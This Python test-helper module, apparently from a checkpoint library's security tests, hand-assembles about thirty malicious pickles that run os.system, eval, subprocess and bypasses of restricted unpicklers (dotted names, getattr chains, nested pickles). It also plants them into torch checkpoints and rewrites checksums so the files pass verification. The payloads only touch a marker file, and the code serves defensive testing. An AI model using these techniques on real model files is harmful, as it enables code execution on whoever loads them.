"""Pickles that do harm when they are read, and what plants them into checkpoints.

Each of them leaves a mark: it creates a file when it runs. They are put together by hand, since `pickle` itself writes neither dotted
names nor old opcodes.
"""

from __future__ import annotations

import io
import json
import pathlib
import pickle
import shutil
import struct
import zipfile
from pathlib import Path

import torch

from danling.checkpoints import storage
from danling.checkpoints.dcp_index import INDEX
from danling.checkpoints.manifest import Manifest


def _text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def _tuple(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def _list(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def _global(module: str, name: str) -> bytes:
    """Look up a name as protocols 0 to 3 do."""
    return f"c{module}\n{name}\n".encode()


def _stacked(module: str, name: str) -> bytes:
    """Look up a name as protocol 4 does: its dots are followed."""
    return _text(module) + _text(name) + b"\x93"


def _call(function: bytes, *arguments: bytes) -> bytes:
    return function + _tuple(*arguments) + b"R"


def _getattr(of: bytes, name: str) -> bytes:
    return _call(_global("builtins", "getattr"), of, _text(name))


# In Python 3.13 pathlib is a package whose modules have these.
_LOCAL = "" if hasattr(pathlib, "os") else "_local."
_METADATA = "torch.distributed.checkpoint.metadata"
_DOTTED = "torch._strobelight.cli_function_profiler.subprocess.Popen"


def _kinds(mark: str) -> dict[str, bytes]:
    touch = _text(f"touch {mark}")
    write = _text(f"open({mark!r}, 'w').close()")
    argv = _list(_text("touch"), _text(mark))
    opened = (_text(mark), _text("w"))
    module_os = _call(_global("importlib", "import_module"), _text("os"))
    system = _global("os", "system")
    part = _stacked(_METADATA, "Metadata") + b")\x81"
    return {
        "os.system": _call(system, touch),
        "posix.system": _call(_stacked("posix", "system"), touch),
        "builtins.eval": _call(_global("builtins", "eval"), write),
        "builtins.exec": _call(_global("builtins", "exec"), write),
        "__builtin__.eval": _call(_global("__builtin__", "eval"), write),
        "builtins.open": _call(_global("builtins", "open"), *opened),
        "subprocess.Popen": _call(_global("subprocess", "Popen"), argv),
        "subprocess.check_call": _call(_stacked("subprocess", "check_call"), argv),
        "io.FileIO": _call(_global("io", "FileIO"), *opened),
        "pathlib.io.FileIO": _call(_stacked("pathlib", f"{_LOCAL}io.FileIO"), *opened),
        "pathlib.os.system": _call(_stacked("pathlib", f"{_LOCAL}os.system"), touch),
        "pathlib.PosixPath.touch": _call(
            _stacked("pathlib", "PosixPath.touch"),
            _call(_stacked("pathlib", "PosixPath"), _text(mark)),
        ),
        "metadata, dotted to Popen": _call(_stacked(_METADATA, _DOTTED), argv),
        "metadata, dotted to os.system": _call(_stacked(_METADATA, "os.system"), touch),
        "torch, dotted to os.system": _call(_stacked("torch", "os.system"), touch),
        "torch.serialization, dotted": _call(_stacked("torch.serialization", "os.system"), touch),
        "getattr of a module": _call(_getattr(module_os, "system"), touch),
        "getattr chain": _call(
            _getattr(_getattr(_global("torch", "serialization"), "os"), "system"), touch
        ),
        "getattr of the enumeration": _getattr(
            _stacked(_METADATA, "_MEM_FORMAT_ENCODING"), "__class__"
        )
        + b"0"
        + _call(system, touch),
        "operator.methodcaller": _call(
            _call(_global("operator", "methodcaller"), _text("system"), touch), module_os
        ),
        "functools.partial": _call(_call(_global("functools", "partial"), system, touch)),
        "runpy": _call(_global("runpy", "_run_code"), write, b"}"),
        "timeit": _call(_global("timeit", "timeit"), _text("pass"), write),
        "the instruction INST": b"(" + touch + b"ios\nsystem\n",
        "the instruction OBJ": b"(" + system + touch + b"o",
        "nested in a list": _list(b"K\x01", _call(system, touch)),
        "nested in a dictionary": b"}(" + _text("model") + _call(system, touch) + b"u",
        "nested in the arguments of a harmless call": _call(
            _global("collections", "OrderedDict"), _list(_tuple(_text("a"), _call(system, touch)))
        ),
        "nested in the state of a part": part
        + b"}("
        + _text("planner_data")
        + _call(system, touch)
        + b"ub",
        "a state that sets attributes": part
        + _tuple(b"N", b"}(" + _text("__setstate__") + system + b"u")
        + b"b"
        + touch
        + b"b",
        "nested pickle of torch": _call(
            _global("torch.storage", "_load_from_bytes"),
            _bytes(_archive(b"\x80\x02" + _call(system, touch) + b".")),
        ),
        "nested pickle": _call(
            _global("pickle", "loads"), _bytes(b"\x80\x02" + _call(system, touch) + b".")
        ),
        "a persistent name": _call(system, touch) + b"Q",
    }


def _bytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def kinds() -> list[str]:
    return sorted(_kinds("mark"))


def harm(kind: str, mark: Path, *, protocol: int = 4) -> bytes:
    """Return a pickle of a kind that creates `mark`."""
    return b"\x80" + bytes([protocol]) + _kinds(str(mark))[kind] + b"."


def works(kind: str, mark: Path) -> None:
    """Read a pickle of a kind as a careless reader does; what it raises after its harm is done does not matter."""
    for protocol in (2, 4):
        try:
            found = pickle.loads(harm(kind, mark, protocol=protocol))
        except Exception:
            continue
        if hasattr(found, "wait"):
            found.wait()


# Planting


def _archive(content: bytes, *, of: bytes | None = None) -> bytes:
    """Return a file of `torch.save` whose pickle is `content`."""
    buffer = io.BytesIO()
    torch.save({}, buffer)
    source = zipfile.ZipFile(io.BytesIO(of or buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for record in source.infolist():
            target.writestr(
                record.filename,
                content if record.filename.endswith("data.pkl") else source.read(record),
            )
    return out.getvalue()


def plant_in_file(path: Path, content: bytes) -> None:
    """Put a pickle into a file of `torch.save`, in place of its own; other names of the file keep what they had."""
    replaced = _archive(content, of=path.read_bytes())
    path.unlink()
    path.write_bytes(replaced)


def plant_in_value(target: Path, content: bytes, name: str = "runner") -> None:
    """Put a pickle into an entry of plain values of a sharded checkpoint; the index leads to it."""
    about = json.loads((target / INDEX).read_text())
    place = about["values"][name]["place"]
    file = target / about["files"][place[0]]
    data, planted = file.read_bytes(), _archive(content)
    file.write_bytes(data + planted)
    place[1:] = [len(data), len(planted)]
    (target / INDEX).write_text(json.dumps(about))


def plant_in_metadata(target: Path, content: bytes) -> None:
    """Put a pickle into `.metadata` of a checkpoint without an index, as earlier versions wrote them."""
    (target / INDEX).unlink(missing_ok=True)
    (target / ".metadata").write_bytes(content)


def reseal(directory: Path) -> None:
    """Write sums that fit, as somebody does who wants a checkpoint to be loaded."""
    for sums in [*directory.rglob("*.pth.sha256"), *directory.rglob("manifest.sha256")]:
        record = Manifest.parse(sums.read_text()).record
        whole = sums.name == "manifest.sha256"
        files = (
            [path for path in sums.parent.iterdir() if path != sums]
            if whole
            else [sums.with_suffix("")]
        )
        about = {path.name: (path.stat().st_size, storage.hash_file(path)) for path in files}
        sums.write_text(Manifest(record, about).text())


def engine_target(directory: Path, payload: dict[str, object]) -> Path:
    """Make the checkpoint of an engine at stage 0 out of a sharded one; nothing of DeepSpeed is needed for that."""
    (target,) = (directory / "targets").iterdir()
    manifest = Manifest.parse((target / "manifest.sha256").read_text())
    shutil.rmtree(target)
    target.mkdir()
    own = {name: value for name, value in payload.items() if name not in ("model", "optimizer")}
    groups = payload["optimizer"]["param_groups"]  # type: ignore[index]
    outline = {"stage": 0, "world_size": 1, "param_groups": groups, "scalars": {}}
    torch.save({**own, "engine": outline}, target / "runner.pth")
    engine = {"module": payload["model"], "optimizer": {"state": {}, "param_groups": groups}}
    torch.save(engine, target / "mp_rank_00_model_states.pt")
    (target / "manifest.sha256").write_text(Manifest(manifest.record, {}).text())
    reseal(directory)
    return target
